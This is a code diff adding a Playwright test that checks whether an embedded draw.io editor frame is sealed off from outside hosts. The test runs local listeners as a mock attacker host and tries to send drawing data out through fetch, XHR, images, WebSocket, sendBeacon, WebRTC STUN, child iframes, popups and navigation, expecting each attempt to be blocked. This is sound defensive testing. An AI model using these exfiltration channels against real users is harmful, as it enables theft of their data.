@@ -15,7 +15,10 @@
  * service worker and the HTTP cache kept, and a drawing made offline arrives when the network
  * is back.
  */
+import { createSocket } from 'node:dgram';
 import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 
 import type { Browser, BrowserContext, ConsoleMessage, Frame, Page } from '@playwright/test';
 
@@ -250,6 +253,181 @@ test('the real bundled draw.io: opaque origin, draw, save, Refresh on the other 
   } finally {
     await a.context.close();
     await b.context.close();
+  }
+});
+
+/**
+ * A host outside our server, as a script smuggled into the editor with a crafted drawing would
+ * send the drawing to: an HTTP (and WebSocket) listener and a UDP port (WebRTC's STUN), each
+ * counting what reaches it.
+ */
+async function outsideListeners() {
+  const httpHits: string[] = [];
+  const http = createServer((request, response) => {
+    httpHits.push(request.url ?? '');
+    response.end('ok');
+  });
+  http.on('upgrade', (request, socket) => {
+    httpHits.push(`upgrade ${request.url ?? ''}`);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
+  const udpHits: number[] = [];
+  const udp = createSocket('udp4');
+  udp.on('message', (message) => udpHits.push(message.length));
+  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+  return {
+    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
+    udpPort: udp.address().port,
+    httpHits,
+    udpHits,
+    close: async () => {
+      udp.close();
+      http.closeAllConnections();
+      await new Promise((resolve) => http.close(resolve));
+    },
+  };
+}
+
+test('the real bundled draw.io frame has no way out: no fetch, image, WebSocket, WebRTC, popup or navigation to another host', async ({
+  browser,
+  server,
+}) => {
+  const [alice] = await setUpSpace(server, ['alice'], { prefix: 'DrawioWayOut' });
+  if (!alice) throw new Error('space set-up failed');
+  const outside = await outsideListeners();
+  const a = await openBrowser(browser, server);
+  try {
+    await openDiagrams(a.page, server, alice);
+    const frame = drawioFrame(a.page, server);
+    const tried = await frame.evaluate(
+      async ({ url, udpPort }) => {
+        const attempt = async (run: () => unknown): Promise<string> => {
+          try {
+            return String(await run());
+          } catch (error) {
+            return error instanceof Error ? error.name : String(error);
+          }
+        };
+        const settles = (target: EventTarget, ok: string, failed: string) =>
+          new Promise<string>((resolve) => {
+            target.addEventListener(ok, () => resolve(ok));
+            target.addEventListener(failed, () => resolve(failed));
+            setTimeout(() => resolve('timeout'), 3_000);
+          });
+        const answerOf = (child: HTMLIFrameElement) =>
+          new Promise<string>((resolve) => {
+            addEventListener('message', (event) => {
+              if (event.source === child.contentWindow) resolve(String(event.data));
+            });
+            setTimeout(() => resolve('no answer'), 2_000);
+          });
+        const stun = { iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] };
+        const rtcProbe = `<script>try { new RTCPeerConnection(${JSON.stringify(stun)}).createDataChannel('x'); parent.postMessage('rtc', '*'); } catch (e) { parent.postMessage(e.name, '*'); }</script>`;
+
+        const result: Record<string, string> = {};
+        result.fetch = await attempt(() => fetch(`${url}/fetch?drawing=1`).then(() => 'fetched'));
+        result.xhr = await attempt(() => {
+          const xhr = new XMLHttpRequest();
+          xhr.open('GET', `${url}/xhr`);
+          xhr.send();
+          return settles(xhr, 'load', 'error');
+        });
+        result.image = await attempt(() => {
+          const image = new Image();
+          image.src = `${url}/image.png?drawing=1`;
+          return settles(image, 'load', 'error');
+        });
+        result.webSocket = await attempt(() =>
+          settles(new WebSocket(`${url.replace('http', 'ws')}/ws`), 'open', 'error'),
+        );
+        // Queued either way (true); the CSP refuses it before it is sent (checked below).
+        navigator.sendBeacon(`${url}/beacon`, 'drawing');
+        const globals = window as unknown as Record<string, unknown>;
+        result.webrtc = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel']
+          .map((name) => typeof globals[name])
+          .join(' ');
+        result.peerConnection = await attempt(() => {
+          const Peer = globals.RTCPeerConnection as typeof RTCPeerConnection;
+          const peer = new Peer(stun);
+          peer.createDataChannel('drawing');
+          return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+        });
+        result.restored = await attempt(() => {
+          delete globals.RTCPeerConnection;
+          return typeof globals.RTCPeerConnection;
+        });
+        // A fresh window of its own: a frame the editor creates.
+        const blank = document.createElement('iframe');
+        document.body.append(blank);
+        result.childFrame = await attempt(
+          () =>
+            typeof (blank.contentWindow as unknown as Record<string, unknown>).RTCPeerConnection,
+        );
+        const srcdoc = document.createElement('iframe');
+        srcdoc.srcdoc = rtcProbe;
+        const srcdocAnswer = answerOf(srcdoc);
+        document.body.append(srcdoc);
+        result.srcdocFrame = await srcdocAnswer;
+        const dataFrame = document.createElement('iframe');
+        dataFrame.src = `data:text/html,${encodeURIComponent(rtcProbe)}`;
+        const dataAnswer = answerOf(dataFrame);
+        document.body.append(dataFrame);
+        result.dataFrame = await dataAnswer;
+        result.popup = await attempt(() => window.open(`${url}/popup`));
+        result.top = await attempt(() => {
+          const top = window.top;
+          if (top === null) return 'no top';
+          top.location.href = `${url}/top`;
+          return 'navigated';
+        });
+        result.startedFromFiles = String(
+          document.querySelectorAll('script[src*="app.min.js"]').length === 0 &&
+            typeof globals.App === 'function',
+        );
+        return result;
+      },
+      { url: outside.url, udpPort: outside.udpPort },
+    );
+    expect(tried).toEqual({
+      fetch: 'TypeError',
+      xhr: 'error',
+      image: 'error',
+      webSocket: 'error',
+      webrtc: 'undefined undefined undefined',
+      peerConnection: 'TypeError',
+      restored: 'undefined',
+      childFrame: 'SecurityError',
+      srcdocFrame: 'no answer',
+      dataFrame: 'no answer',
+      popup: 'null',
+      top: 'SecurityError',
+      // draw.io ran from the files the app handed over, as inline scripts (no blob: scripts).
+      startedFromFiles: 'true',
+    });
+
+    // Last, the frame navigates itself away with the drawing in the address: refused by the
+    // app's frame-src, the request never leaves.
+    await frame
+      .evaluate((url) => {
+        location.href = `${url}/navigate?drawing=1`;
+      }, outside.url)
+      .catch(() => undefined);
+    await a.page.waitForTimeout(1_000);
+    expect(a.page.frames().some((candidate) => candidate.url().startsWith(outside.url))).toBe(
+      false,
+    );
+
+    // Nothing reached the outside host, over HTTP, WebSocket or UDP, and the browser never even
+    // tried (every request to another host would have been recorded).
+    await a.page.waitForTimeout(1_000);
+    expect(outside.httpHits).toEqual([]);
+    expect(outside.udpHits).toEqual([]);
+    expect(a.elsewhere).toEqual([]);
+    await expect.poll(() => a.cspViolations.join('\n')).toContain('connect-src');
+  } finally {
+    await a.context.close();
+    await outside.close();
   }
 });
 
